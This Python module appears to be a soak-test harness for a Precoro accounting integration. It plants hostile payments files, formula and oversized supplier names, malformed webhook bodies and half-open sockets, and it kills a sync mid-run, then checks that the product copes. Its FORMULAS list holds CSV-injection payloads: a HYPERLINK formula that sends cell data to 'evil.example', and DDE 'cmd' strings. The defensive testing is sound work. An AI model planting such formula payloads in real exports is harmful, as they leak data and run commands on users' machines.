"""The hostile inputs of issue #28, planted by the soak while its flow runs (harness only: the product never
imports this module).

- `HostileLedger`: each reconciliation meets a new payments file in the ledger folder holding good rows, an amount
  with 25 integer digits, formula-looking text and a cut last line (no line break); a symbolic link to a payments
  file outside the folder; and a payments file that grows (each row written in two halves) while the ledger is
  read. What the folder holds is the ground truth: the good rows, each loaded once with its exact values, and
  nothing of the hostile ones (`check`).
- `hostile_supplier_names`: purchase orders whose supplier name in Precoro is a spreadsheet formula, one of 200 KiB,
  so the write-back's accounting export meets them (`check_exports`: no cell an export file holds runs as a
  formula, the 200 KiB one failed alone, every file is still readable, nothing strands in `sending`).
- `WebhookStorm`: `precoro-assets webhooks` meets edge bodies (an id of 10**30, a thousand nested [), idle and
  half-open sockets and bursts of events; every accepted event must be in the inbox once.
- `kill_a_sync_in_the_api_slot`: `precoro-assets sync` killed (-9) while it holds the precoro_api pool slot, then
  a sync again, which must finish.
"""

from __future__ import annotations

import csv
import io
import os
import random
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

HEADER = "payment_id,bill_id,supplier,invoice_number,amount,currency,paid_on\n"
PREFIX = "SOAK-"  # every payment the hostile files hold; the demo ledger's are AP-PAY-*
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HUGE_TEXT = 200 * 1024  # over the csv module's 128 KiB field limit


def _line(*fields: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(fields)
    return out.getvalue()


@dataclass
class LedgerFigures:
    files: int = 0  # hostile payments files planted (static, link, growing)
    rows_expected: int = 0
    rows_lost: int = 0
    rows_duplicated: int = 0
    rows_wrong: int = 0  # loaded with another value than the file holds (a half-written row read as whole)
    rows_deferred: int = 0  # rows of a file still growing that a load left for the next one (as it must)
    hostile_loaded: int = 0  # a huge amount, a cut line or a linked file's row that was loaded
    problems: list[str] = field(default_factory=list)


class HostileLedger:
    """Plants the hostile payments files and holds what they should load (payment_id -> values)."""

    def __init__(self, folder: Path, outside: Path, rng: random.Random, paid_on: str):
        self.folder, self.outside, self.rng, self.paid_on = folder, outside, rng, paid_on
        self.expected: dict[str, tuple] = {}  # payment_id -> (bill_id, supplier, amount, paid_on)
        self.growing: dict[str, tuple] = {}  # rows of the file being written now (not all there yet)
        self.refused: set[str] = set()  # payment ids that must never load
        self.figures = LedgerFigures()
        self.writer: threading.Thread | None = None

    def _good(self, payment_id: str, supplier: str = "") -> str:
        amount = f"{self.rng.randint(1, 99_999)}.{self.rng.randint(0, 99):02d}"
        bill = f"SOAK-BILL-{payment_id}"
        self.expected[payment_id] = (bill, supplier or None, Decimal(amount), self.paid_on)
        return _line(payment_id, bill, supplier, "", amount, "EUR", self.paid_on)

    def plant(self, round_number: int) -> None:
        """A static file (good rows, a huge amount, formulas, a cut last line), a link, and a file that starts
        growing now (`finish` waits for it)."""
        tag = f"{PREFIX}{round_number}"
        rows = [self._good(f"{tag}-{n}", FORMULAS[n % len(FORMULAS)] if n % 2 else "") for n in range(4)]
        huge = f"{tag}-HUGE"
        rows.insert(2, _line(huge, f"SOAK-BILL-{huge}", "", "", "1" * 25 + ".00", "EUR", self.paid_on))
        cut = f"{tag}-CUT"
        text = HEADER + "".join(rows) + _line(cut, f"SOAK-BILL-{cut}", "", "", "12.50", "EUR", self.paid_on)[:-1]
        (self.folder / f"payments_soak_{round_number}.csv").write_text(text, encoding="utf-8")
        self.refused |= {huge, cut}

        self.outside.mkdir(parents=True, exist_ok=True)
        target = self.outside / f"linked_{round_number}.csv"
        linked = f"{tag}-LINK"
        target.write_text(HEADER + _line(linked, f"SOAK-BILL-{linked}", "", "", "7.00", "EUR", self.paid_on))
        os.symlink(target, self.folder / f"payments_soak_link_{round_number}.csv")
        self.refused.add(linked)

        grow = [self._good(f"{tag}-G{n}") for n in range(12)]
        self.growing = {pid: self.expected.pop(pid) for pid in list(self.expected) if pid.startswith(f"{tag}-G")}
        path = self.folder / f"payments_soak_growing_{round_number}.csv"
        self.writer = threading.Thread(target=_grow, args=(path, grow), name="soak-growing-ledger", daemon=True)
        self.writer.start()
        self.figures.files += 3

    def finish(self) -> None:
        """Wait for the growing file to be whole (the load that overlapped its writing may hold a part of it)."""
        if self.writer is not None:
            self.writer.join()
            self.writer = None

    def check(self, loaded: list[tuple]) -> LedgerFigures:
        """Compare what the warehouse loaded from the hostile files, (payment_id, bill_id, supplier, amount,
        paid_on) rows, with what the files hold: every good row once and exact, a row of the file still growing
        at most exact, nothing hostile."""
        figures = self.figures
        seen: dict[str, int] = {}
        for payment_id, bill_id, supplier, amount, paid_on in loaded:
            seen[payment_id] = seen.get(payment_id, 0) + 1
            value = (bill_id, supplier, Decimal(str(amount)), str(paid_on)[:10])
            want = self.expected.get(payment_id) or self.growing.get(payment_id)
            if payment_id in self.refused or want is None:
                figures.hostile_loaded += 1
                figures.problems.append(f"{payment_id} loaded, must not be")
            elif value != want:
                figures.rows_wrong += 1
                figures.problems.append(f"{payment_id} loaded as {value}, the file holds {want}")
        lost = set(self.expected) - set(seen)
        figures.rows_deferred += len(set(self.growing) - set(seen))
        figures.rows_expected = len(self.expected)
        figures.rows_lost += len(lost)
        figures.problems += [f"{pid} not loaded" for pid in sorted(lost)[:5]]
        duplicated = sum(n - 1 for n in seen.values())
        figures.rows_duplicated += duplicated
        if duplicated:
            figures.problems.append(f"{duplicated} row(s) loaded twice")
        self.expected.update(self.growing)  # whole now (`finish`): the next load must hold all of it
        self.growing = {}
        return figures


def _grow(path: Path, rows: list[str]) -> None:
    """Write a payments file as a slow exporter does: each row in two halves, a pause between writes."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(HEADER)
        handle.flush()
        for row in rows:
            half = len(row) // 2
            for part in (row[:half], row[half:]):
                handle.write(part)
                handle.flush()
                time.sleep(0.12)


# ---- the accounting export meets formulas and a 200 KiB field ----------------------------------------------------

def hostile_supplier_names(purchase_orders: list[dict], rng: random.Random) -> dict[str, str]:
    """New supplier names (idn -> name) for approved purchase orders not yet linked to the accounting side, which
    the reconciliation proposes exporting: four formula-looking names and one of 200 KiB."""
    candidates = [po for po in purchase_orders if po.get("status") == 2 and not po.get("externalId")
                  and po.get("integrationStatus") != 8]
    chosen = rng.sample(candidates, min(len(candidates), len(FORMULAS) + 1))
    names = {str(po["idn"]): f"{formula} #{po['idn']}" for po, formula in zip(chosen[1:], FORMULAS, strict=False)}
    if chosen:
        names[str(chosen[0]["idn"])] = "S" + "x" * HUGE_TEXT
    return names


@dataclass
class ExportFigures:
    files: int = 0
    rows: int = 0
    formula_cells: int = 0  # cells a spreadsheet would run: must be 0
    unreadable: list[str] = field(default_factory=list)
    neutralised: int = 0  # the formula-looking names exported, quoted
    huge_failed_alone: bool = False
    stranded: int = 0  # outbox rows left in `sending`
    problems: list[str] = field(default_factory=list)


def check_exports(export_dir: Path, names: dict[str, str], outbox_rows: list) -> ExportFigures:
    """Read every export file as a spreadsheet import would (the csv module, default limits)."""
    figures = ExportFigures()
    huge = {idn for idn, name in names.items() if len(name) > HUGE_TEXT}
    for path in sorted(export_dir.glob("*.csv")) if export_dir.is_dir() else []:
        figures.files += 1
        try:
            with open(path, newline="", encoding="utf-8") as handle:
                rows = list(csv.reader(handle))
        except (csv.Error, UnicodeDecodeError) as error:
            figures.unreadable.append(f"{path.name}: {error}")
            continue
        for row in rows[1:]:
            figures.rows += 1
            figures.formula_cells += sum(1 for i, cell in enumerate(row) if cell.startswith(FORMULA_STARTS)
                                         and not (rows[0][i:i + 1] == ["amount"] and _is_number(cell)))
            if path.name == "purchaseorders.csv" and len(row) > 3 and row[1] in names:
                figures.neutralised += row[3] == "'" + names[row[1]]
                if row[1] in huge:
                    figures.problems.append(f"purchase order {row[1]} was exported with its 200 KiB supplier name")
    if figures.formula_cells:
        figures.problems.append(f"{figures.formula_cells} export cell(s) run as formulas")
    figures.problems += figures.unreadable
    by_key = {row.target_key: row for row in outbox_rows
              if row.resource == "purchaseorders" and row.kind == "export_document"}
    figures.stranded = sum(row.status == "sending" for row in outbox_rows)
    if figures.stranded:
        figures.problems.append(f"{figures.stranded} outbox row(s) stranded in sending")
    for idn in huge:
        outbox_row = by_key.get(idn)
        figures.huge_failed_alone = outbox_row is not None and outbox_row.status == "failed" and (
            "characters long" in (outbox_row.last_error or ""))
        if not figures.huge_failed_alone:
            figures.problems.append(f"the 200 KiB supplier name's purchase order {idn}: its export is "
                                    f"{'never proposed' if outbox_row is None else outbox_row.status}, "
                                    "not failed alone")
    return figures


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


# ---- kill -9 of a sync holding the precoro_api slot, then a sync again ------------------------------------------

@dataclass
class KillFigures:
    kills: int = 0  # syncs killed while holding the slot
    syncs_after: int = 0  # syncs run after a kill that finished (exit 0, the slot free again)
    problems: list[str] = field(default_factory=list)


def slot_holders(instance, pool: str = "precoro_api") -> list[str]:
    return [slot.run_id for slot in instance.event_log_storage.get_concurrency_info(pool).claimed_slots]


def kill_a_sync_in_the_api_slot(instance, control, start_day: str, logs: Path, figures: KillFigures,
                                timeout: float = 300) -> None:
    """`precoro-assets sync --start start_day` with every invoice list and detail request hanging: killed (-9, its whole process
    group) once it holds the precoro_api slot; then the faults are cleared and a sync again must finish."""
    sync = [sys.executable, "-m", "precoro_sim.cli", "sync", "--start", start_day]
    for path in ("/invoices", "/invoices/{idn}"):  # its list and detail requests hang: it is killed mid-run
        control("POST", "faults", json={"kind": "slow", "seconds": 60, "method": "GET", "path": path,
                                        "count": None})
    logs.mkdir(parents=True, exist_ok=True)
    number = figures.kills + len(figures.problems) + 1
    with open(logs / f"killed-sync-{number}.log", "wb") as log:
        run = subprocess.Popen(sync, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
                               start_new_session=True)
    try:
        deadline = time.monotonic() + timeout
        while not slot_holders(instance) and run.poll() is None and time.monotonic() < deadline:
            time.sleep(0.2)
        held = slot_holders(instance)
        if not held:
            figures.problems.append(f"sync {number} never held the precoro_api slot (exit {run.poll()})")
            return
        os.killpg(run.pid, signal.SIGKILL)
        run.wait(timeout=30)
        figures.kills += 1
    finally:
        if run.poll() is None:
            os.killpg(run.pid, signal.SIGKILL)
            run.wait(timeout=30)
        control("DELETE", "faults")
    again = subprocess.run(sync, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=timeout)
    (logs / f"sync-after-kill-{number}.log").write_text(again.stdout + again.stderr)
    if again.returncode == 0 and not slot_holders(instance):
        figures.syncs_after += 1
    else:
        figures.problems.append(f"the sync after kill {number} exited {again.returncode}, slot held by "
                                f"{slot_holders(instance)}: {again.stderr.strip()[-300:]}")


# ---- the webhook receiver: edge bodies, idle and half-open sockets, a flood ----------------------------------

@dataclass
class WebhookFigures:
    edge_bodies: int = 0  # sent: an id of 10**30, a thousand nested [
    edge_refused: int = 0  # answered 422
    idle_sockets: int = 0  # opened and left idle or half-open
    idle_closed: int = 0  # closed by the receiver within its deadline
    flooded: int = 0  # valid events sent in bursts
    accepted: int = 0  # answered 200
    recorded: int = 0  # in the inbox (must equal accepted)
    problems: list[str] = field(default_factory=list)


class WebhookStorm:
    """`precoro-assets webhooks` on 127.0.0.1 (request deadline 1 s) meets, each round, two edge bodies, an idle
    and a half-open socket, and a burst of valid events; each accepted event must be in the inbox exactly once."""

    DEADLINE = 1.0
    FLOOD = 60  # events per burst

    def __init__(self, logs: Path, inbox, figures: WebhookFigures | None = None):
        import secrets
        import socket

        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            self.port = probe.getsockname()[1]
        self.secret = secrets.token_urlsafe(24)
        self.url = f"http://127.0.0.1:{self.port}/precoro/{self.secret}"
        self.inbox, self.figures = inbox, figures or WebhookFigures()
        self.sent_ids: set[int] = set()
        self.next_id = 9_000_000_000
        logs.mkdir(parents=True, exist_ok=True)
        with open(logs / "webhooks.log", "wb") as log:
            self.process = subprocess.Popen(
                [sys.executable, "-m", "precoro_sim.cli", "webhooks", "--port", str(self.port),
                 "--request-timeout", str(self.DEADLINE)], stdin=subprocess.DEVNULL, stdout=log,
                stderr=subprocess.STDOUT, env={**os.environ, "PRECORO_WEBHOOK_SECRET": self.secret},
                start_new_session=True)
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                return
            except OSError:
                if self.process.poll() is not None:
                    raise RuntimeError(f"the webhook receiver exited with {self.process.returncode}") from None
                time.sleep(0.2)
        raise RuntimeError("the webhook receiver did not listen within 120 s")

    def round(self) -> None:
        import socket
        from concurrent.futures import ThreadPoolExecutor

        import httpx

        figures = self.figures
        # sockets left idle, or cut after the headers (half-open): the receiver must close them itself
        idle = [socket.create_connection(("127.0.0.1", self.port), timeout=10) for _ in range(2)]
        idle[1].sendall(f"POST /precoro/{self.secret} HTTP/1.1\r\nHost: x\r\nContent-Length: 60\r\n"
                        "Content-Type: application/json\r\n\r\n{\"id\": 1".encode())
        figures.idle_sockets += len(idle)
        with httpx.Client(timeout=30) as client:
            for body in (f'{{"id": {10**30}, "type": 3, "action": 1, "idn": "1"}}', "[" * 1000):
                figures.edge_bodies += 1
                answer = client.post(self.url, content=body, headers={"content-type": "application/json"})
                figures.edge_refused += answer.status_code == 422
                if answer.status_code != 422:
                    figures.problems.append(f"an edge body ({body[:20]}...) was answered {answer.status_code}")

            def send(number: int) -> int:
                body = {"id": number, "type": 3, "action": 1, "idn": str(number % 1000)}
                try:
                    return client.post(self.url, json=body).status_code
                except httpx.HTTPError:
                    return 0

            ids = list(range(self.next_id, self.next_id + self.FLOOD))
            self.next_id += self.FLOOD
            with ThreadPoolExecutor(8) as pool:
                answers = list(pool.map(send, ids))
        figures.flooded += len(ids)
        accepted = [i for i, status in zip(ids, answers, strict=True) if status == 200]
        figures.accepted += len(accepted)
        self.sent_ids |= set(accepted)
        deadline = time.monotonic() + self.DEADLINE + 5
        for sock in idle:
            sock.settimeout(max(deadline - time.monotonic(), 0.1))
            try:
                closed = sock.recv(65536) == b"" or sock.recv(65536) == b""  # an error answer, then the end
            except OSError:
                closed = False
            figures.idle_closed += closed
            if not closed:
                figures.problems.append(f"an idle socket was still open {self.DEADLINE + 5:.0f} s later")
            sock.close()

    def stop(self) -> None:
        if self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait(timeout=30)

    def check(self) -> WebhookFigures:
        """Every accepted event of the floods is in the inbox exactly once."""
        figures = self.figures
        events = [e for e in self.inbox.after(0, limit=10_000_000) if e.id in self.sent_ids or e.id >= 9_000_000_000]
        figures.recorded = len(events)
        counted: dict[int, int] = {}
        for event in events:
            counted[event.id] = counted.get(event.id, 0) + 1
        lost, twice = self.sent_ids - set(counted), sum(n - 1 for n in counted.values())
        if lost or twice or set(counted) - self.sent_ids:
            figures.problems.append(f"webhook events: {len(lost)} accepted but not recorded, {twice} recorded twice, "
                                    f"{len(set(counted) - self.sent_ids)} recorded but never accepted")
        return figures
